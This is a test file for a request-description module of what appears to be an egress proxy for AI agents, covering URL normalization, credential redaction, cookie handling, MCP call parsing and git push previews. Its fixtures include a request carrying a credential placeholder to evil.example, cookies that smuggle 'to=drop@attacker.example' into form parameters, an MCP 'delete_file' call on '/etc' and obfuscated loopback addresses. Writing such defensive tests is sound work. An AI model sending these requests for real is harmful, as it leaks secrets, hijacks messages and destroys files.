import fc from 'fast-check';
// The description contract: normalization, redaction, body summary, MCP, placeholders, egress.
import t from 'tap';
import crypto from 'node:crypto';
import { describeRequest, heldCookieValues, type RawRequest } from '../../describe/describe.ts';
import { loadAdapters } from '../../describe/adapters/index.ts';

await loadAdapters();
const agent = { id: 'agent-1', labels: { team: 'data' } };

function raw(over: Partial<RawRequest> = {}): RawRequest {
  return { method: 'GET', url: 'http://example.com/', headers: [], body: Buffer.alloc(0), bodyTruncated: false, ...over };
}

t.test('URL normalization: host, punycode, trailing dot, userinfo, dot-segments, default port', async (t) => {
  const d = describeRequest(raw({ url: 'HTTPS://user:pw@ExAmple.COM.:443/a/./b/../c/%2e%2e/d?x=1&x=2&y=%20z#frag' }), { agent });
  t.equal(d.request.host, 'example.com');
  t.equal(d.request.scheme, 'https');
  t.equal(d.request.port, 443);
  t.equal(d.request.path, '/a/d');
  t.same(d.request.segments, ['a', 'd']);
  t.same(d.request.query, { x: ['1', '2'], y: [' z'] });
  t.equal(d.request.url, 'https://example.com/a/d?x=1&x=2&y=%20z');
  t.notMatch(d.request.url, /user|pw/, 'userinfo never reaches the description');
  t.equal(describeRequest(raw({ url: 'http://bücher.example/' }), { agent }).request.host, 'xn--bcher-kva.example');
  t.equal(describeRequest(raw({ url: 'http://[::1]:8080/' }), { agent }).request.host, '::1');
  t.equal(describeRequest(raw({ url: 'http://2130706433/' }), { agent }).request.host, '127.0.0.1', 'numeric IPv4 forms are canonicalized');
  t.equal(describeRequest(raw({ url: 'http://0x7f.1/' }), { agent }).request.host, '127.0.0.1');
});

t.test('headers: lowercase, multi-valued, credentials redacted, proxy auth dropped', async (t) => {
  const d = describeRequest(raw({
    headers: [['Accept', 'a'], ['X-Multi', '1'], ['x-multi', '2'], ['Authorization', 'Bearer sk-secret-value'], ['Cookie', 'session=abc'],
      ['Proxy-Authorization', 'Basic YWdlbnQ6dG9rZW4='], ['X-Api-Key', 'k-123']],
  }), { agent });
  t.same(d.request.headers['x-multi'], ['1', '2']);
  t.same(d.request.headers.authorization, ['Bearer [redacted]']);
  t.same(d.request.headers.cookie, ['session=[redacted]']);
  t.same(d.request.headers['x-api-key'], ['[redacted]']);
  t.notOk('proxy-authorization' in d.request.headers);
  t.notMatch(JSON.stringify(d), /sk-secret-value|session=abc|k-123|YWdlbnQ6dG9rZW4/);
});

t.test('a Cookie header keeps each cookie name and no value: which cookies ride along is on the card (sixteenth pass)', async (t) => {
  // `cookie: [redacted]` hid that an account or tenant cookie rode beside the session: `org=acct_1Attacker`.
  const cookie = (value: string) => describeRequest(raw({ headers: [['Cookie', value]] }), { agent }).request.headers.cookie;
  t.same(cookie('session=abc; org=acct_1Attacker'), ['session=[redacted]; org=[redacted]']);
  t.same(cookie(' a=1;;b = 2 ; lone;'), ['a=[redacted]; b=[redacted]; [redacted]'], 'blanks, empty pieces and a piece without a name');
  t.same(cookie(''), ['[redacted]']);
  t.equal(cookie(Array.from({ length: 300 }, (_, i) => `c${i}=v`).join('; '))![0]!.split('; ').length, 201, 'bounded in count');
  fc.assert(fc.property(fc.array(fc.tuple(fc.stringMatching(/^[a-z_.-]{1,8}$/), fc.stringMatching(/^V[0-9]{1,10}$/), fc.constantFrom('; ', ';', ' ; ')), { minLength: 1, maxLength: 6 }), (pairs) => {
    const [shown] = cookie(pairs.map(([n, v, sep]) => `${n}=${v}${sep}`).join(''))!;
    return !/V[0-9]/.test(shown!) && shown!.split('; ').length === pairs.length && shown!.endsWith('[redacted]');
  }), { numRuns: 50 });
});

t.test('while held, the card shows the cookies that say whose account the request acts in, never one shaped as a credential (seventeenth pass)', async (t) => {
  // `account_id=acct_1Attacker` beside the session stayed `[redacted]` (named like a credential), so
  // the person could not see the account; Slack's `d=xoxd-…` (a session under a name that says
  // nothing) was shown on the card and in `approvals show`.
  const held = (cookie: string) => heldCookieValues([['Cookie', cookie]]);
  const whoNames = fc.constantFrom('account', 'account_id', 'accountId', 'current_account', 'user_id', 'current_user', 'identity', 'org', 'tenant_id', 'x');
  const ids = fc.oneof(fc.stringMatching(/^acct_[A-Za-z0-9]{8,20}$/), fc.stringMatching(/^[0-9]{1,12}$/), fc.stringMatching(/^[a-z]{1,10}@[a-z]{1,10}\.example$/), fc.uuid());
  fc.assert(fc.property(whoNames, ids, (name, id) => {
    const out = held(`session=s3cr3t; ${name}=${id}`);
    return out.length === 1 && out[0]![0] === name && out[0]![1] === id;
  }), { numRuns: 25 });
  const secretShaped = fc.oneof(
    fc.tuple(fc.base64String({ minLength: 12, maxLength: 40 }), fc.base64String({ minLength: 12, maxLength: 40 })).map(([a, b]) => `eyJ${a.replace(/[+/=]/g, 'x')}.eyJ${b.replace(/[+/=]/g, 'x')}.sig`),
    fc.base64String({ minLength: 32, maxLength: 120 }).filter((v) => v.replace(/=+$/, '').length >= 32),
    fc.stringMatching(/^xoxd-[A-Za-z0-9%]{40,90}$/),
    fc.stringMatching(/^s%3A[A-Za-z0-9]{8,20}\.[A-Za-z0-9%]{20,40}$/),
  );
  const anyNames = fc.oneof(whoNames, fc.constantFrom('d', '__Secure-1PSID', 'SAPISID', 'sid', 'session', 'remember_user_token', 'auth', 'connect.sid'));
  fc.assert(fc.property(anyNames, secretShaped, (name, v) => held(`org=acme; ${name}=${v}`).every(([, shown]) => shown !== v && !shown.includes(v.slice(0, 24)))), { numRuns: 30 });
  t.same(held('session=abc; remember_user_token=42; org=acme'), [['org', 'acme']], 'named as a credential: never shown');
});

t.test('cookies named like a query or form parameter (as PHP and ASP.NET name them) are listed by name, their values redacted (fifteenth pass)', async (t) => {
  const form = (url: string, cookie: string, body = '') => describeRequest(raw({ method: 'POST', url, headers: [['Cookie', cookie], ['Content-Type', 'application/x-www-form-urlencoded']], body: Buffer.from(body) }), { agent }).request;
  t.same(form('http://h.example/send?to=boss', 'session=abc; to=drop@attacker.example').cookie_params, ['to']);
  t.same(form('http://h.example/send', 'TO=drop@attacker.example', 'to=boss').cookie_params, ['TO'], 'ASP.NET reads names in any case');
  t.same(form('http://h.example/send', 'mail.to=drop@attacker.example', 'mail_to=boss').cookie_params, ['mail.to'], 'PHP reads mail.to as mail_to');
  t.equal(form('http://h.example/send?x=1', 'session=abc; to=drop').cookie_params, undefined, 'a cookie no parameter is named like');
  t.notMatch(JSON.stringify(form('http://h.example/send?to=boss', 'to=drop@attacker.example')), /drop@attacker/, 'the value stays redacted');
});

t.test("headers a service names as its credential are redacted too: the agent's own key never lands in the audit log or on a card", async (t) => {
  const named = ['X-Shopify-Access-Token', 'DD-API-KEY', 'Ocp-Apim-Subscription-Key', 'X-Auth-Key', 'X-Figma-Token', 'X-Vault-Token', 'JOB-TOKEN', 'X-Amz-Security-Token', 'X-Client-Secret', 'X_Api_Key', 'X-TrackerToken', 'X-ChatWorkToken', 'X-Honeycomb-Team', 'X-JFrog-Art-Api'];
  const kept = ['Idempotency-Key', 'Sec-WebSocket-Key', 'X-Request-Id', 'X-Tokenizer', 'X-Monkey', 'npm-auth-type', 'X-CSRFToken'];
  const d = describeRequest(raw({ headers: [...named, ...kept].map((n, i): [string, string] => [n, `value-${i}`]) }), { agent });
  for (const n of named) t.same(d.request.headers[n.toLowerCase()], ['[redacted]'], n);
  for (const n of kept) t.match(d.request.headers[n.toLowerCase()], [/^value-/], `${n} is no credential`);
});

t.test('body: JSON, form, text preview, truncated, sha256 and size', async (t) => {
  const json = describeRequest(raw({ method: 'POST', headers: [['Content-Type', 'application/json; charset=utf-8']], body: Buffer.from('{"a":[1,2]}') }), { agent });
  t.same(json.request.body.json, { a: [1, 2] });
  t.equal(json.request.body.content_type, 'application/json');
  t.equal(json.request.body.size, 11);
  t.equal(json.request.body.sha256, crypto.createHash('sha256').update('{"a":[1,2]}').digest('hex'));
  const form = describeRequest(raw({ method: 'POST', headers: [['content-type', 'application/x-www-form-urlencoded']], body: Buffer.from('to=a%40b.c&to=d&msg=hi+there') }), { agent });
  t.same(form.request.body.form, { to: ['a@b.c', 'd'], msg: ['hi there'] });
  const text = describeRequest(raw({ method: 'POST', headers: [['content-type', 'text/plain']], body: Buffer.from('x'.repeat(10_000)) }), { agent, previewBytes: 100 });
  t.equal(text.request.body.text!.length, 100);
  t.equal(text.request.body.size, 10_000);
  const cut = describeRequest(raw({ method: 'POST', headers: [['content-type', 'application/json'], ['content-length', '5000000']], body: Buffer.from('{"a":'), bodyTruncated: true }), { agent });
  t.equal(cut.request.body.truncated, true);
  t.equal(cut.request.body.size, 5_000_000, 'size is the declared length when truncated');
  t.notOk('json' in cut.request.body, 'a truncated body is never parsed as if whole');
  const badJson = describeRequest(raw({ method: 'POST', headers: [['content-type', 'application/json']], body: Buffer.from('{nope') }), { agent });
  t.equal(badJson.request.body.text, '{nope');
});

t.test('MCP over HTTP: tools/call, tools/list, batches', async (t) => {
  const call = describeRequest(raw({ method: 'POST', headers: [['content-type', 'application/json']],
    body: Buffer.from(JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'delete_file', arguments: { path: '/etc' } } })) }), { agent });
  t.same(call.mcp, { method: 'tools/call', id: 7, tool: 'delete_file', arguments: { path: '/etc' } });
  const batch = describeRequest(raw({ method: 'POST', headers: [['content-type', 'application/json']],
    body: Buffer.from(JSON.stringify([{ jsonrpc: '2.0', id: 1, method: 'tools/list' }, { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'x' } }])) }), { agent });
  t.equal(batch.mcp!.method, 'tools/list');
  t.equal(batch.mcp!.batch!.length, 2);
  t.equal(batch.mcp!.batch![1]!.tool, 'x');
  t.notOk(describeRequest(raw({ method: 'POST', headers: [['content-type', 'application/json']], body: Buffer.from('{"method":"x"}') }), { agent }).mcp);
});

t.test('placeholders are found where they are, including encoded in the path', async (t) => {
  const finder = { find: (s: string) => (s.includes('airlock-ph-gh-abc') ? ['gh'] : []) };
  const d = describeRequest(raw({
    url: 'http://evil.example/x/airlock%2Dph-gh-abc?q=airlock-ph-gh-abc',
    headers: [['Authorization', 'token airlock-ph-gh-abc']],
  }), { agent, placeholders: finder });
  t.same(d.placeholders, [{ name: 'gh', where: ['header', 'query', 'path'] }]);
  t.same(describeRequest(raw(), { agent, placeholders: finder }).placeholders, []);
});

t.test('egress bytes count URL, agent-chosen headers and body, not proxy plumbing', async (t) => {
  const base = describeRequest(raw({ url: 'http://a.example/' }), { agent }).request.egress_bytes;
  const more = describeRequest(raw({ url: 'http://a.example/?d=' + 'x'.repeat(1000), headers: [['X-Data', 'y'.repeat(500)], ['Host', 'a.example'], ['Proxy-Authorization', 'z'.repeat(100)]], method: 'POST', body: Buffer.from('b'.repeat(2000)) }), { agent }).request.egress_bytes;
  t.ok(more - base >= 1000 + 500 + 2000, `counts agent data (${more - base})`);
  t.ok(more - base < 1000 + 500 + 2000 + 100, 'does not count proxy credentials or the Host header the agent sent');
  // The host name itself leaves (Host, SNI, DNS): under a wildcard the agent chooses it.
  const label = 'd'.repeat(63);
  const long = describeRequest(raw({ url: `http://${label}.${label}.${label}.a.example/` }), { agent }).request.egress_bytes;
  t.equal(long - base, 3 * 64, 'counts the bytes of the host name');
});

t.test('upgrade requests are marked', async (t) => {
  t.equal(describeRequest(raw({ headers: [['Upgrade', 'WebSocket'], ['Connection', 'Upgrade']] }), { agent }).request.upgrade, 'websocket');
});

t.test('what cannot be described is a DescribeError', async (t) => {
  t.throws(() => describeRequest(raw({ url: '/relative' }), { agent }), { name: 'DescribeError' });
  t.throws(() => describeRequest(raw({ url: 'ftp://x.example/' }), { agent }), { name: 'DescribeError' });
  t.throws(() => describeRequest(raw({ method: 'GE T' }), { agent }), { name: 'DescribeError' });
  t.throws(() => describeRequest(raw({ url: 'http://exa mple.com/' }), { agent }), { name: 'DescribeError' });
});

t.test('git push: the ref update commands are previewed so a branch deletion is visible', async (t) => {
  const zero = '0'.repeat(40);
  const old = 'a'.repeat(40);
  const cmd = `${old} ${zero} refs/heads/main\0 report-status side-band-64k`;
  const pkt = (s: string) => (s.length + 4).toString(16).padStart(4, '0') + s;
  const body = Buffer.concat([Buffer.from(pkt(cmd) + '0000', 'latin1'), Buffer.from('PACK'), Buffer.from([0, 0, 0, 2, 0xff, 0xfe])]);
  const d = describeRequest(raw({ method: 'POST', url: 'https://github.com/acme/app.git/git-receive-pack',
    headers: [['content-type', 'application/x-git-receive-pack-request']], body }), { agent });
  t.notMatch(d.request.body.text!, /PACK/, 'the binary pack is not previewed');
  t.match(d.service, { name: 'git', effect: 'delete' }, 'the git adapter sees the deletion');
});
